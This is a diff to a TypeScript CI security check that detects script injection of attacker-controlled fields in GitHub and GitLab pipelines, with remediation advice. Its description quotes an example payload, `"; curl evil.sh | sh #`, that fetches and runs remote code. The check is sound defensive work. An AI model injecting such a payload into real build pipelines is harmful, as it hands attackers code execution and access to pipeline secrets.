@@ -1,4 +1,6 @@
-import { defineCheck } from '../../../src/core/check.js'
+import { defineCheck, type Outcome, type ResultBuilder } from '../../../src/core/check.js'
+import type { CiWorkflow } from '../../../src/core/evidence.js'
+import { findShellInjections, isGitLabPipeline } from '../shared/gitlab.js'
 import { actionOf, describeStep, type LocatedStep, stepsOf } from '../shared/workflow.js'
 
 /**
@@ -49,6 +51,52 @@ function interpolations(located: LocatedStep): Interpolation[] {
   )
 }
 
+/**
+ * GitLab hands `$CI_COMMIT_MESSAGE` to the shell unexpanded, so there is no template injection; the
+ * shell expands it as data unless the script parses it a second time as code.
+ */
+function evaluateGitLab(workflow: CiWorkflow, result: ResultBuilder): Outcome {
+  const seen = new Set<string>()
+  const found = workflow.jobs
+    .flatMap((job) => {
+      const injections = findShellInjections(
+        job.steps.map((step) => step.run ?? ''),
+        job.steps[0]?.env ?? {},
+      )
+      return job.steps.flatMap((step, index) =>
+        (injections[index] ?? []).map((injection) => ({ located: { job, step }, ...injection })),
+      )
+    })
+    // A default before_script is a step of every job; report each line once.
+    .filter(({ located, variable, via }) => {
+      const key = `${located.step.line} ${variable} ${via}`
+      if (seen.has(key)) return false
+      seen.add(key)
+      return true
+    })
+    .sort((a, b) => a.located.step.line - b.located.step.line)
+  const first = found[0]
+  if (first === undefined) {
+    return result.pass(
+      workflow,
+      'no script runs attacker-controlled CI variables (commit message, merge request title, branch name) as code through eval, sh -c or a pipe into a shell',
+    )
+  }
+  const risk = workflow.triggers.includes('merge_request_event')
+    ? '; the pipeline runs for merge requests, whose title, description and source branch their author chooses'
+    : ''
+  return result.fail(
+    workflow,
+    `runs attacker-controlled CI variables as shell code: ${found
+      .map((entry) => {
+        const copy = entry.from === undefined ? '' : ` (a copy of $${entry.from})`
+        return `$${entry.variable}${copy} through ${entry.via} in ${describeStep(entry.located)}`
+      })
+      .join('; ')}${risk}`,
+    { line: first.located.step.line },
+  )
+}
+
 export default defineCheck({
   id: 'ci/workflow-untrusted-input-not-interpolated',
   title: 'Workflow scripts do not interpolate attacker-controlled event fields',
@@ -57,17 +105,21 @@ export default defineCheck({
     'GitHub substitutes `${{ … }}` into a script before the shell runs it, so an issue title, comment, ' +
     'branch name or commit message containing `"; curl evil.sh | sh #` becomes a command in your pipeline. ' +
     'Anyone on GitHub can set those fields; on pull_request_target, issue_comment and similar triggers the job ' +
-    'also holds secrets and a write token. This is the input validation control of secure development ' +
-    '(OWASP injection), applied to the build system.',
+    'also holds secrets and a write token. GitLab passes variables such as `$CI_MERGE_REQUEST_TITLE` to the ' +
+    'shell unexpanded, so they are data unless a script parses them again as code with `eval`, `sh -c "…"` or ' +
+    'a pipe into a shell. This is the input validation control of secure development (OWASP injection), ' +
+    'applied to the build system.',
   remediation:
     'Pass the value through an environment variable and quote it in the script: `env: { TITLE: ${{ ' +
     'github.event.issue.title }} }` then `echo "$TITLE"`. In actions/github-script read it from ' +
     '`context.payload` instead of interpolating. Avoid checking out or running pull request code in ' +
-    'pull_request_target workflows.',
+    'pull_request_target workflows. In GitLab, use the variable directly and quoted (`echo "$CI_COMMIT_TITLE"`); ' +
+    'where a shell must run it, pass it as a positional parameter: `sh -c \'echo "$1"\' _ "$CI_COMMIT_TITLE"`.',
   severity: 'high',
   reads: ['ci.workflow'],
   evaluate({ evidence, result }) {
     return evidence['ci.workflow'].map((workflow) => {
+      if (isGitLabPipeline(workflow)) return evaluateGitLab(workflow, result)
       const found = stepsOf(workflow).flatMap(interpolations)
       const first = found[0]
       if (first === undefined) {
